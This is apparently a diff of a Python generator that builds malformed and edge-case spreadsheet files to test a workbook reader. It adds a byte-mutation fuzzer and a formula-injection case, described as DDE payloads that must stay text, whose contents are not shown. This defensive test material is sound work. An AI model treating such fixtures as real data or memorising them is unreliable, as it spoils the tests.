 def _f_cached(p: Path) -> None:
     def tweak(wb: Any, ws: Any, fmt: Any) -> None:
         keys = master_keys()
         a, c, u = keys.index("amount"), keys.index("cartons"), keys.index("unit_price")
         for i, r in enumerate(master_rows()):
             row = 2 + i
-            ws.write_formula(row, a, f"={_col(c + 1)}{row + 1}*{_col(u + 1)}{row + 1}", None, r[c] * r[u])
+            ws.write_formula(
+                row, a, f"={_col(c + 1)}{row + 1}*{_col(u + 1)}{row + 1}", None, r[c] * r[u]
+            )
 
     _write_xlsxwriter(p, tweak)
 
 
-@case("formulas-no-cache.xlsx", "amount as formulas without cached values (written by openpyxl)", fmt="xlsx", notes=("formulas-without-values",))
+@case(
+    "formulas-no-cache.xlsx",
+    "amount as formulas without cached values (written by openpyxl)",
+    fmt="xlsx",
+    notes=("formulas-without-values",),
+)
 def _f_nocache(p: Path) -> None:
     def tweak(wb: Any, ws: Any) -> None:
         keys = master_keys()
@@ -1081,7 +1374,12 @@ def _f_nocache(p: Path) -> None:
     _write_openpyxl(p, tweak=tweak)
 
 
-@case("formulas-only-row.xlsx", "an order row whose every cell is a formula without a cached value", fmt="xlsx", notes=("formulas-without-values",))
+@case(
+    "formulas-only-row.xlsx",
+    "an order row whose every cell is a formula without a cached value",
+    fmt="xlsx",
+    notes=("formulas-without-values",),
+)
 def _f_only(p: Path) -> None:
     def tweak(wb: Any, ws: Any) -> None:
         for col in range(1, len(master_keys()) + 1):
@@ -1090,19 +1388,32 @@ def _f_only(p: Path) -> None:
     _write_openpyxl(p, tweak=tweak)
 
 
-@case("shared-formulas-no-cache.xlsx", "shared formulas (<f t=\"shared\"/>) without <v>", fmt="xlsx", notes=("formulas-without-values",))
+@case(
+    "shared-formulas-no-cache.xlsx",
+    'shared formulas (<f t="shared"/>) without <v>',
+    fmt="xlsx",
+    notes=("formulas-without-values",),
+)
 def _f_shared(p: Path) -> None:
     grid = _master_grid()
     xml = _sheet_xml(grid)
     a = _col(master_keys().index("amount") + 1)
-    for row, si in ((3, '<f t="shared" ref="{a}3:{a}5" si="0">H3*Q3</f>'), (4, '<f t="shared" si="0"/>'), (5, '<f t="shared" si="0"/>')):
+    for row, si in (
+        (3, '<f t="shared" ref="{a}3:{a}5" si="0">H3*Q3</f>'),
+        (4, '<f t="shared" si="0"/>'),
+        (5, '<f t="shared" si="0"/>'),
+    ):
         start = xml.index(f'<c r="{a}{row}">')
         end = xml.index("</c>", start) + 4
         xml = xml[:start] + f'<c r="{a}{row}">{si.format(a=a)}</c>' + xml[end:]
     raw_xlsx(p, xml)
 
 
-@case("rich-text-shared-strings.xlsx", "customer and remarks as rich text runs (bold/colour) in sharedStrings", fmt="xlsx")
+@case(
+    "rich-text-shared-strings.xlsx",
+    "customer and remarks as rich text runs (bold/colour) in sharedStrings",
+    fmt="xlsx",
+)
 def _rich(p: Path) -> None:
     def tweak(wb: Any, ws: Any, fmt: Any) -> None:
         keys = master_keys()
@@ -1114,7 +1425,11 @@ def _rich(p: Path) -> None:
     _write_xlsxwriter(p, tweak)
 
 
-@case("listobject-master.xlsx", "the master as an Excel table (ListObject) with a totals row", fmt="xlsx")
+@case(
+    "listobject-master.xlsx",
+    "the master as an Excel table (ListObject) with a totals row",
+    fmt="xlsx",
+)
 def _table(p: Path) -> None:
     import xlsxwriter
 
@@ -1128,18 +1443,33 @@ def _table(p: Path) -> None:
         0,
         1 + len(rows) + 1,
         len(header) - 1,
-        {"data": rows, "columns": [{"header": h} for h in header], "name": "Orders", "total_row": True},
+        {
+            "data": rows,
+            "columns": [{"header": h} for h in header],
+            "name": "Orders",
+            "total_row": True,
+        },
     )
     _xw_refs(wb)
     wb.close()
 
 
-@case("date1904.xlsx", "the 1904 date system (Mac Excel) with real dates", fmt="xlsx", notes=("date1904",))
+@case(
+    "date1904.xlsx",
+    "the 1904 date system (Mac Excel) with real dates",
+    fmt="xlsx",
+    notes=("date1904",),
+)
 def _d1904(p: Path) -> None:
     _write_xlsxwriter(p, None, {"date_1904": True})
 
 
-@case("macro-enabled.xlsm", "an .xlsm with a VBA project (ms-ovba) and the master sheet", fmt="xlsm", notes=("macros",))
+@case(
+    "macro-enabled.xlsm",
+    "an .xlsm with a VBA project (ms-ovba) and the master sheet",
+    fmt="xlsm",
+    notes=("macros",),
+)
 def _xlsm(p: Path) -> None:
     def tweak(wb: Any, ws: Any, fmt: Any) -> None:
         wb.add_vba_project(str(vba_project_bin()))
@@ -1147,23 +1477,39 @@ def _xlsm(p: Path) -> None:
     _write_xlsxwriter(p, tweak)
 
 
-@case("prefixed-namespace.xlsx", "every worksheet element with an x: prefix (OpenXML SDK style)", fmt="xlsx")
+@case(
+    "prefixed-namespace.xlsx",
+    "every worksheet element with an x: prefix (OpenXML SDK style)",
+    fmt="xlsx",
+)
 def _prefixed(p: Path) -> None:
     raw_xlsx(p, _sheet_xml(_master_grid(), prefix="x"))
 
 
-@case("cells-without-refs.xlsx", "rows and cells without r attributes (allowed by the standard)", fmt="xlsx")
+@case(
+    "cells-without-refs.xlsx",
+    "rows and cells without r attributes (allowed by the standard)",
+    fmt="xlsx",
+)
 def _no_refs(p: Path) -> None:
     raw_xlsx(p, _sheet_xml(_master_grid(), with_r=False))
 
 
-@case("utf16-sheet.xlsx", "a clean worksheet part in UTF-16 (valid XML, but calamine reads it as empty)", reason="xml-encoding")
+@case(
+    "utf16-sheet.xlsx",
+    "a clean worksheet part in UTF-16 (valid XML, but calamine reads it as empty)",
+    reason="xml-encoding",
+)
 def _utf16_ok(p: Path) -> None:
     xml = _sheet_xml(_master_grid()).replace('encoding="UTF-8"', 'encoding="UTF-16"')
     raw_xlsx(p, b"\xff\xfe" + xml.encode("utf-16-le"))
 
 
-@case("gbk-sheet.xlsx", "a worksheet part declared and encoded as GBK (calamine: XmlError)", reason="xml-encoding")
+@case(
+    "gbk-sheet.xlsx",
+    "a worksheet part declared and encoded as GBK (calamine: XmlError)",
+    reason="xml-encoding",
+)
 def _gbk(p: Path) -> None:
     xml = _sheet_xml(_master_grid()).replace('encoding="UTF-8"', 'encoding="GBK"')
     raw_xlsx(p, xml.encode("gbk"))
@@ -1174,7 +1520,11 @@ def _no_ct(p: Path) -> None:
     _patched(p, lambda n, d: None if n == "[Content_Types].xml" else d)
 
 
-@case("formula-injection.xlsx", "text cells starting with = + - @ and DDE payloads (must stay text in every output)", fmt="xlsx")
+@case(
+    "formula-injection.xlsx",
+    "text cells starting with = + - @ and DDE payloads (must stay text in every output)",
+    fmt="xlsx",
+)
 def _inject(p: Path) -> None:
     keys = master_keys()
     rows = master_rows()
@@ -1204,7 +1554,12 @@ def _xlsb(p: Path) -> None:
     p.write_bytes(xlsb([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()]))
 
 
-@case("large-20k-rows.xlsx", "20,000 orders (speed: must finish well under 10 s)", fmt="xlsx", tags=("slow",))
+@case(
+    "large-20k-rows.xlsx",
+    "20,000 orders (speed: must finish well under 10 s)",
+    fmt="xlsx",
+    tags=("slow",),
+)
 def _large(p: Path) -> None:
     import xlsxwriter
 
@@ -1239,7 +1594,9 @@ def _xw_refs(wb: Any) -> None:
                     s.write_string(r, c, v) if isinstance(v, str) else s.write(r, c, v)
 
 
-def _write_xlsxwriter(p: Path, tweak: Callable[[Any, Any, Any], None] | None, options: dict[str, Any] | None = None) -> None:
+def _write_xlsxwriter(
+    p: Path, tweak: Callable[[Any, Any, Any], None] | None, options: dict[str, Any] | None = None
+) -> None:
     """The base workbook written by xlsxwriter (strings never become formulas)."""
     import xlsxwriter
 
@@ -1268,18 +1625,20 @@ _VBA_CACHE: dict[str, bytes] = {}
 
 
 def vba_project_bin() -> Path:
-    """A real vbaProject.bin (one module, ``Sub Hello``) built with ms-ovba in a scratch folder.
+    """A real vbaProject.bin (one module, ``Sub Hello``), built the way the add-in's is
+    (``addin.build.build_vba_project``: ms-ovba's steps without its CLI, which appends to
+    files inside its own installed package on every run)."""
+    from addin.build import build_vba_project
 
-    ms-ovba writes its intermediate files into the current folder, so it runs as a
-    subprocess with its own working directory.
-    """
     out = Path(tempfile.gettempdir()) / f"gendan-vba-{os.getpid()}" / "vbaProject.bin"
     if out.exists():
         return out
-    work = out.parent
-    (work / "src").mkdir(parents=True, exist_ok=True)
-    (work / "src" / "Module1.bas").write_text('Attribute VB_Name = "Module1"\r\nSub Hello()\r\n    MsgBox "gendan"\r\nEnd Sub\r\n')
-    subprocess.run([sys.executable, "-m", "ms_ovba", "src"], cwd=work, check=True, capture_output=True, timeout=120)
+    src = out.parent / "src"
+    src.mkdir(parents=True, exist_ok=True)
+    (src / "Module1.bas").write_text(
+        'Attribute VB_Name = "Module1"\r\nSub Hello()\r\n    MsgBox "gendan"\r\nEnd Sub\r\n'
+    )
+    out.write_bytes(build_vba_project(src))
     return out
 
 
@@ -1321,17 +1680,39 @@ def build_roundtrip_xlsm(path: Path, with_vba: bool = True, with_custom_ui: bool
     for i, row in enumerate(master_rows()):
         for c, v in enumerate(row):
             if isinstance(v, dt.date):
-                ws.write_datetime(1 + i, c, dt.datetime.combine(v, dt.time()), wb.add_format({"num_format": "yyyy-mm-dd"}))
+                ws.write_datetime(
+                    1 + i,
+                    c,
+                    dt.datetime.combine(v, dt.time()),
+                    wb.add_format({"num_format": "yyyy-mm-dd"}),
+                )
             elif v is not None:
                 ws.write(1 + i, c, v)
     ct = _col(keys.index("container_type") + 1)
     ws.data_validation(f"{ct}2:{ct}100", {"validate": "list", "source": ["20RF", "40RH"]})
     amt = _col(keys.index("amount") + 1)
-    ws.conditional_format(f"{amt}2:{amt}100", {"type": "cell", "criteria": ">", "value": 100000, "format": wb.add_format({"bg_color": "#FFC7CE"})})
+    ws.conditional_format(
+        f"{amt}2:{amt}100",
+        {
+            "type": "cell",
+            "criteria": ">",
+            "value": 100000,
+            "format": wb.add_format({"bg_color": "#FFC7CE"}),
+        },
+    )
     ws.write_comment("A2", "首单 first order")
-    wb.define_name("Ports", f"='工作序列表'!${_col(keys.index('port_of_loading') + 1)}$2:${_col(keys.index('port_of_loading') + 1)}$4")
+    wb.define_name(
+        "Ports",
+        f"='工作序列表'!${_col(keys.index('port_of_loading') + 1)}$2:${_col(keys.index('port_of_loading') + 1)}$4",
+    )
     chart = wb.add_chart({"type": "column"})
-    chart.add_series({"categories": f"='工作序列表'!$A$2:$A$4", "values": f"='工作序列表'!${amt}$2:${amt}$4", "name": "Amount"})
+    chart.add_series(
+        {
+            "categories": "='工作序列表'!$A$2:$A$4",
+            "values": f"='工作序列表'!${amt}$2:${amt}$4",
+            "name": "Amount",
+        }
+    )
     ws.insert_chart("B8", chart)
     ws.insert_image("H8", "logo.png", {"image_data": io.BytesIO(PNG_1x1)})
     if with_vba:
@@ -1374,10 +1755,23 @@ def _build_soffice(out: Path, only: set[str] | None) -> list[Case]:
         for name, ext in wanted.items():
             conv = Path(td) / "conv"
             conv.mkdir(exist_ok=True)
-            target = {"xls": "xls:MS Excel 97", "ods": "ods", "xlsx": "xlsx:Calc MS Excel 2007 XML"}[ext]
+            target = {
+                "xls": "xls:MS Excel 97",
+                "ods": "ods",
+                "xlsx": "xlsx:Calc MS Excel 2007 XML",
+            }[ext]
             try:
                 subprocess.run(
-                    [soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", target, "--outdir", str(conv), str(src)],
+                    [
+                        soffice,
+                        f"-env:UserInstallation=file://{profile}",
+                        "--headless",
+                        "--convert-to",
+                        target,
+                        "--outdir",
+                        str(conv),
+                        str(src),
+                    ],
                     check=True,
                     capture_output=True,
                     timeout=180,
@@ -1389,18 +1783,93 @@ def _build_soffice(out: Path, only: set[str] | None) -> list[Case]:
                 continue
             shutil.move(str(made), out / name)
             notes = {"xls": ("legacy-xls",), "ods": ("ods",), "xlsx": ()}[ext]
-            built.append(Case(name, f"the master saved by LibreOffice as .{ext}", None, ext, notes, frozenset({0, 1}), ("soffice",)))
+            built.append(
+                Case(
+                    name,
+                    f"the master saved by LibreOffice as .{ext}",
+                    None,
+                    ext,
+                    notes,
+                    frozenset({0, 1}),
+                    ("soffice",),
+                )
+            )
     return built
+
+
+_FUZZ_WORKER = r"""
+import sys
+sys.path.insert(0, sys.argv[1])
+from gendan.reader import read_workbook
+from gendan.errors import GendanError
+for line in sys.stdin:
+    p = line.strip()
+    print("START", p, flush=True)
+    try:
+        read_workbook(p)
+    except GendanError:
+        pass
+    except BaseException as e:
+        print("ODD", p, type(e).__name__, str(e)[:100], flush=True)
+"""
+
+
+def fuzz_reader(dest: Path, seed: int, per_file: int) -> list[str]:
+    """Mutate the valid corpus files (1-6 random bytes) and read each through the gate and
+    calamine in a child process, so that a panic or an abort is reported, not suffered.
+
+    Returns one line per problem: ``ODD path exception`` (a non-GendanError escaped
+    ``read_workbook``) or ``ABORT path rc`` (the child process died).  Used to find the
+    calamine crashes the gate now prevents (docs/robustness.md); not run by the tests.
+    """
+    import random
+
+    bases = ["master-ok.xlsx", "legacy.xls", "master.xlsb", "master.ods", "macro-enabled.xlsm"]
+    build(dest, only=set(bases))
+    rng = random.Random(seed)
+    files: list[Path] = []
+    for name in bases:
+        data = (dest / name).read_bytes()
+        for i in range(per_file):
+            b = bytearray(data)
+            for _ in range(rng.randint(1, 6)):
+                b[rng.randrange(len(b))] = rng.randrange(256)
+            f = dest / f"m{i}-{name}"
+            f.write_bytes(bytes(b))
+            files.append(f)
+    problems: list[str] = []
+    i = 0
+    while i < len(files):
+        cp = subprocess.run(
+            [sys.executable, "-c", _FUZZ_WORKER, str(REPO)],
+            input="\n".join(str(f) for f in files[i:]),
+            capture_output=True,
+            text=True,
+            env={"RUST_BACKTRACE": "0", "PATH": os.environ.get("PATH", "/usr/bin:/bin")},
+        )
+        lines = cp.stdout.splitlines()
+        problems += [ln for ln in lines if ln.startswith("ODD")]
+        if cp.returncode == 0:
+            break
+        last = [ln for ln in lines if ln.startswith("START")][-1].split(" ", 1)[1]
+        problems.append(f"ABORT {last} {cp.returncode}")
+        i = files.index(Path(last)) + 1
+    return problems
 
 
 def main(argv: list[str] | None = None) -> int:
     args = sys.argv[1:] if argv is None else argv
+    if args[:1] == ["--fuzz-reader"]:
+        seed, per_file = (int(a) for a in args[1:3]) if len(args) >= 3 else (1, 200)
+        with tempfile.TemporaryDirectory() as td:
+            problems = fuzz_reader(Path(td), seed, per_file)
+        print("\n".join(problems) or "no problem found")
+        return 1 if problems else 0
     dest = Path(args[0]) if args else Path("corpus-out")
     for c in build(dest):
         what = f"refused ({c.reason})" if c.refused else f"read as {c.fmt}"
         print(f"{c.name:40} {what:32} {c.about}")
     return 0
-
 
 
 _BUILT: dict[str, tuple[Path, list[Case]]] = {}
